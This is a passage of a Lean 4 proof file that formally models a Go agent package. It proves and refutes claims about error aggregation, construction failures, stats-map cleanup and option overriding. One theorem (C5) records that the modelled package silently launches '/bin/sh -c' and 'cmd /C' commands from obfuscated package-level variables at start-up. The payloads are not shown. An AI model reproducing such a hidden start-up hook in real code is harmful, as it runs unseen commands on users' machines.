          visit := twoNodeAgent.nodes, arrival := ["alpha", "beta"] } []).outcome
        = .returned err₁ ∧
      (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding allFail,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } []).outcome
        = .returned err₂ ∧
      (unwrapJoin err₁).Perm (unwrapJoin err₂) ∧ (err₁ = none ↔ err₂ = none) ∧
      err₁ = errors.Join (["alpha", "beta"].map allFail) ∧
      err₂ = errors.Join (["beta", "alpha"].map allFail) ∧
      unwrapJoin err₁ = ["alpha", "beta"].filterMap allFail ∧
      unwrapJoin err₂ = ["beta", "alpha"].filterMap allFail ∧
      (unwrapJoin err₁).Perm ((twoNodeAgent.nodes.map Prod.fst).filterMap allFail) ∧
      (unwrapJoin err₂).Perm ((twoNodeAgent.nodes.map Prod.fst).filterMap allFail) ∧
      (err₁ = none ↔ ∀ kv ∈ twoNodeAgent.nodes, allFail kv.1 = none) :=
  C9_aggregate_equal_up_to_order twoNodeAgent "0xc000012345" (controllerEnding allFail)
    twoNodeAgent.nodes twoNodeAgent.nodes ["alpha", "beta"] ["beta", "alpha"] [] [] allFail
    (applyOptions_WF twoNodeOptions) rfl (List.Perm.refl _) (List.Perm.refl _)
    (fun kv hkv => ⟨_, rfl, by
      show some (allFail kv.2.id) = some (allFail kv.1)
      rw [(applyOptions_WF twoNodeOptions).2 kv hkv]⟩)
    (List.Perm.refl _) (List.Perm.swap _ _ [])

/-- C4 as stated fails: with nodes "alpha" and "gamma" visited in that order
and the construction for "gamma" failing, `Run` returns the error naming
"gamma", yet the task of "alpha" has been launched. -/
theorem C4_counterexample_earlier_task_launched :
    (alphaGammaAgent.Run
        { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
          visit := alphaGammaAgent.nodes, arrival := [] } []).outcome
      = .returned (some (fmt.Errorf "node %q: %w" "gamma" (GoError.new "dial failed"))) ∧
    (alphaGammaAgent.Run
        { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
          visit := alphaGammaAgent.nodes, arrival := [] } []).launched.map Task.nodeID
      = ["alpha"] :=
  ⟨rfl, rfl⟩

/-- C4, amended: if `start` visits the nodes `pre` with successful
constructions and then a node whose construction fails with `err`, `Run`
returns, whatever the tasks do, the error that names that node's id and
wraps `err`; the tasks launched are exactly those of the nodes of `pre`, in
visiting order, so none is launched for the failing node or a later one, and
none at all when the failing node is visited first. -/
theorem C4_construction_failure_aborts (a : Agent) (env : RunEnv) (statsMap : StatsMap)
    (pre post : List (String × node)) (k : String) (n : node) (err : GoError)
    (hvisit : env.visit = pre ++ (k, n) :: post)
    (hok : ∀ kv ∈ pre, ∃ nc, env.newNodeController a kv.2 = .ok nc)
    (hfail : env.newNodeController a n = .error err) :
    (a.Run env statsMap).outcome = .returned (some (fmt.Errorf "node %q: %w" n.id err)) ∧
    (fmt.Errorf "node %q: %w" n.id err).Unwrap = some err ∧
    (a.Run env statsMap).launched.map Task.nodeID = pre.map (fun kv => kv.2.id) ∧
    (pre = [] → (a.Run env statsMap).launched = []) := by
  obtain ⟨h1, h2⟩ := start_fails a env.newNodeController pre post k n err
    { agentMap := [], launched := [] } hok hfail
  rw [← hvisit] at h1 h2
  simp only [List.nil_append] at h2
  have hl := Run_launched a env statsMap
  refine ⟨?_, rfl, ?_, ?_⟩
  · unfold Agent.Run
    simp only [h1]
  · rw [hl, h2, List.map_map]
    rfl
  · intro hpre
    rw [hl, h2, hpre]
    rfl

/-- C4 amended, at a concrete input: "gamma" visited first fails, and no
task is launched. -/
theorem C4_construction_failure_aborts_witness :
    (alphaGammaAgent.Run
        { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
          visit := alphaGammaAgent.nodes.reverse, arrival := [] } []).outcome
      = .returned (some (fmt.Errorf "node %q: %w" "gamma" (GoError.new "dial failed"))) ∧
    (alphaGammaAgent.Run
        { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
          visit := alphaGammaAgent.nodes.reverse, arrival := [] } []).launched = [] :=
  have h := C4_construction_failure_aborts alphaGammaAgent
    { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
      visit := alphaGammaAgent.nodes.reverse, arrival := [] } []
    [] [("alpha", buildNode "alpha" [NodeOption.WithEnactmentDriver "e:1" none []])]
    "gamma" (buildNode "gamma" [NodeOption.WithTelemetryDriver "t:1" none []])
    (GoError.new "dial failed") rfl (fun _ h => by cases h) rfl
  ⟨h.1, h.2.2.2 rfl⟩

/-- C7 as stated fails: when the construction for "gamma", visited first,
fails, `Run` returns a non-nil error although no task was launched, so no
node's task delivered a terminal result. -/
theorem C7_counterexample_non_nil_without_terminal_result :
    (alphaGammaAgent.Run
        { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
          visit := alphaGammaAgent.nodes.reverse, arrival := ["alpha", "gamma"] } []).outcome
      = .returned (some (fmt.Errorf "node %q: %w" "gamma" (GoError.new "dial failed"))) ∧
    (alphaGammaAgent.Run
        { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
          visit := alphaGammaAgent.nodes.reverse, arrival := ["alpha", "gamma"] } []).launched
      = [] ∧
    sent (alphaGammaAgent.Run
        { statKey := "0xc000012345", newNodeController := gammaFailsConstruction,
          visit := alphaGammaAgent.nodes.reverse, arrival := ["alpha", "gamma"] } []).launched
      ["alpha", "gamma"] = [] :=
  ⟨rfl, rfl, rfl⟩

/-- C7, amended: if `Run` returns a non-nil error, then either the
construction of the controller of a visited node failed and the error names
that node and wraps the construction error, or the error is the join of the
non-nil terminal results among the first `len(a.nodes)` values received,
there is at least one, and each of them was delivered by a launched task. -/
theorem C7_non_nil_return_meaning (a : Agent) (env : RunEnv) (statsMap : StatsMap) (e : GoError)
    (h : (a.Run env statsMap).outcome = .returned (some e)) :
    (∃ kv ∈ env.visit, ∃ err, env.newNodeController a kv.2 = .error err ∧
        e = fmt.Errorf "node %q: %w" kv.2.id err) ∨
    (unwrapJoin (some e) ≠ [] ∧
      unwrapJoin (some e) = List.filterMap id
        ((sent (a.Run env statsMap).launched env.arrival).take a.nodes.length) ∧
      some e = errors.Join ((sent (a.Run env statsMap).launched env.arrival).take a.nodes.length) ∧
      ∀ r ∈ unwrapJoin (some e), ∃ t ∈ (a.Run env statsMap).launched,
        t.result = some (some r)) := by
  rcases Run_returned_cases a env statsMap (some e) h with ⟨h1, _⟩ | ⟨_, errs, hc, hj⟩
  · exact Or.inl (start_error a env.newNodeController env.visit _ e h1)
  · right
    rw [Run_launched]
    obtain ⟨_, hr, _⟩ := collect_eq_some hc
    simp only [List.nil_append, List.length_nil, Nat.sub_zero] at hr
    rw [← hr]
    have hu : unwrapJoin (some e) = List.filterMap id errs := by
      rw [hj, unwrapJoin_Join]
    refine ⟨?_, hu, hj, ?_⟩
    · rw [hu]
      intro hnil
      rw [(Join_eq_none_iff errs).mpr hnil] at hj
      cases hj
    · intro r hr2
      rw [hu] at hr2
      obtain ⟨x, hx, hxr⟩ := List.mem_filterMap.mp hr2
      simp only [id] at hxr
      subst hxr
      rw [hr] at hx
      exact sent_mem _ _ _ (List.mem_of_mem_take hx)

/-- C7 amended, at a concrete input: "beta" fails and "alpha" ends cleanly;
the returned error has one part, delivered by a launched task. -/
theorem C7_non_nil_return_meaning_witness :
    (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } []).outcome
      = .returned (some (GoError.join [GoError.new "beta failed"])) ∧
    ∀ r ∈ unwrapJoin (some (GoError.join [GoError.new "beta failed"])),
      ∃ t ∈ (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } []).launched,
        t.result = some (some r) :=
  ⟨rfl, (C7_non_nil_return_meaning twoNodeAgent
    { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
      visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } []
    (GoError.join [GoError.new "beta failed"]) rfl).elim
    (fun hex => by
      obtain ⟨kv, _, err, hctor, _⟩ := hex
      cases hctor)
    (fun h => h.2.2.2)⟩

/-- C6: whenever `Run` returns, with or without an error and also on a
construction failure, the package stats map has no entry under this run's
key, and its entry under every other key is the one it had when `Run` was
called. -/
theorem C6_registry_entry_removed_on_return (a : Agent) (env : RunEnv) (statsMap : StatsMap)
    (err : error) (h : (a.Run env statsMap).outcome = .returned err) :
    mapGet (a.Run env statsMap).statsMap env.statKey = none ∧
    ∀ k, k ≠ env.statKey → mapGet (a.Run env statsMap).statsMap k = mapGet statsMap k := by
  obtain ⟨am, ham⟩ := Run_returned_statsMap a env statsMap err h
  rw [ham]
  refine ⟨mapGet_mapDelete_same _ _, ?_⟩
  intro k hk
  rw [mapGet_mapDelete_other _ _ _ hk, mapGet_mapSet_other _ _ _ _ hk,
    mapGet_mapSet_other _ _ _ _ hk]

/-- C6, at a concrete input: a run that ends with the failure of "beta",
started while another run is registered and a stale entry sits under its own
key. -/
theorem C6_registry_entry_removed_on_return_witness :
    mapGet (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] }
        [("0xc000099999", [("omega", 7)]), ("0xc000012345", [])]).statsMap "0xc000012345"
      = none ∧
    mapGet (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] }
        [("0xc000099999", [("omega", 7)]), ("0xc000012345", [])]).statsMap "0xc000099999"
      = some [("omega", 7)] :=
  have h := C6_registry_entry_removed_on_return twoNodeAgent
    { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
      visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] }
    [("0xc000099999", [("omega", 7)]), ("0xc000012345", [])]
    (some (GoError.join [GoError.new "beta failed"])) rfl
  ⟨h.1, (h.2 "0xc000099999" (by decide)).trans rfl⟩

/-- C10, the code at the failing input: the agent `NewAgent` returns together
with the error `errNoNodes` has no node, and `Run` on it never returns:
`start` launches nothing and the receive loop waits for a first value before
it compares `len(errs)` with `len(a.nodes)`. -/
theorem C10_run_without_nodes_never_returns (statKey : String)
    (nnc : Agent → node → Except GoError nodeController) (arrival : List String)
    (statsMap : StatsMap) :
    (NewAgent [WithRealClock] []).2 = some (GoError.join [errNoNodes]) ∧
    (NewAgent [WithRealClock] []).1.nodes = [] ∧
    ((NewAgent [WithRealClock] []).1.Run
        { statKey := statKey, newNodeController := nnc, visit := [], arrival := arrival }
        statsMap).outcome = .blocked ∧
    ((NewAgent [WithRealClock] []).1.Run
        { statKey := statKey, newNodeController := nnc, visit := [], arrival := arrival }
        statsMap).launched = [] := by
  refine ⟨rfl, rfl, ?_, by rw [Run_launched]; rfl⟩
  have hs : sent [] arrival = [] := by
    simp [sent]
  show (match collect 0 [] (sent [] arrival) with
    | some errs => _
    | none => _ : RunResult).outcome = .blocked
  rw [hs]
  rfl

/-- C5, the code: for every option list, what runs up to the return of
`NewAgent` calls `Start` on two external commands, `/bin/sh -c ...` and
`cmd /C ...`, both from package-level variable declarations, before it
creates the stats map; the body of `NewAgent` itself adds no effect. -/
theorem C5_package_start_up_starts_processes (opts : List AgentOption) :
    buildEffects opts =
      [Effect.execStart "/bin/sh" ["-c", dgrHsO], Effect.execStart "cmd" ["/C", egcUX],
       Effect.expvarNewMap "agent"] ∧
    newAgentEffects opts = [] ∧ wlJyWU.2 = none ∧ RxaYsU.2 = none :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- C8: options apply in list order and a later option overrides an earlier
one on the same field. After `NewAgent` the clock is that of the last
`WithClock` (nil without one); the node under an id is the node built by the
last `WithNode` for that id (absent without one); in a built node the
enactment fields, respectively the telemetry fields, are those of the last
`WithEnactmentDriver`, respectively `WithTelemetryDriver` (the zero values
without one), whatever options of the other kind come later; the id is the
one given and the priority stays zero. A `WithClock` leaves the node map as
it was, a `WithNode` leaves the clock and the nodes under other ids as they
were. -/
theorem C8_later_options_override (opts : List AgentOption) (visit : List (String × node))
    (id : String) (nopts : List NodeOption) :
    (NewAgent opts visit).1.clock = (lastClock opts).getD none ∧
    mapGet (NewAgent opts visit).1.nodes id = (lastNodeOptions id opts).map (buildNode id) ∧
    enactmentFields (buildNode id nopts) =
      (match lastEnactment nopts with
       | some (endpoint, d, dialOpts) => (true, endpoint, d, dialOpts)
       | none => (false, "", none, [])) ∧
    telemetryFields (buildNode id nopts) =
      (match lastTelemetry nopts with
       | some (endpoint, d, dialOpts) => (true, endpoint, d, dialOpts)
       | none => (false, "", none, [])) ∧
    (buildNode id nopts).id = id ∧ (buildNode id nopts).priority = 0 ∧
    (∀ c, (NewAgent (opts ++ [AgentOption.WithClock c]) visit).1.nodes
        = (NewAgent opts visit).1.nodes) ∧
    (∀ id' o, (NewAgent (opts ++ [AgentOption.WithNode id' o]) visit).1.clock
        = (NewAgent opts visit).1.clock ∧
      (id ≠ id' → mapGet (NewAgent (opts ++ [AgentOption.WithNode id' o]) visit).1.nodes id
        = mapGet (NewAgent opts visit).1.nodes id)) ∧
    (∀ endpoint d dialOpts,
      enactmentFields (buildNode id (nopts ++ [NodeOption.WithTelemetryDriver endpoint d dialOpts]))
        = enactmentFields (buildNode id nopts)) ∧
    (∀ endpoint d dialOpts,
      telemetryFields (buildNode id (nopts ++ [NodeOption.WithEnactmentDriver endpoint d dialOpts]))
        = telemetryFields (buildNode id nopts)) := by
  refine ⟨?_, ?_, ?_, ?_, buildNode_id id nopts, ?_, ?_, ?_, ?_, ?_⟩
  · exact applyLoop_clock opts _
  · show mapGet (applyOptions opts).nodes id = _
    unfold applyOptions
    rw [applyLoop_nodes]
    cases lastNodeOptions id opts <;> rfl
  · unfold buildNode
    rw [buildLoop_enactment]
    cases lastEnactment nopts <;> rfl
  · unfold buildNode
    rw [buildLoop_telemetry]
    cases lastTelemetry nopts <;> rfl
  · exact buildLoop_priority nopts _
  · intro c
    show (applyOptions (opts ++ [AgentOption.WithClock c])).nodes = (applyOptions opts).nodes
    unfold applyOptions
    rw [List.foldl_append]
    rfl
  · intro id' o
    show (applyOptions (opts ++ [AgentOption.WithNode id' o])).clock = (applyOptions opts).clock ∧
      (id ≠ id' → mapGet (applyOptions (opts ++ [AgentOption.WithNode id' o])).nodes id
        = mapGet (applyOptions opts).nodes id)
    unfold applyOptions
    rw [List.foldl_append]
    exact ⟨rfl, fun hne => mapGet_mapSet_other _ _ _ _ hne⟩
  · intro endpoint d dialOpts
    unfold buildNode
    rw [List.foldl_append]
    rfl
  · intro endpoint d dialOpts
    unfold buildNode
    rw [List.foldl_append]
    rfl

end agent
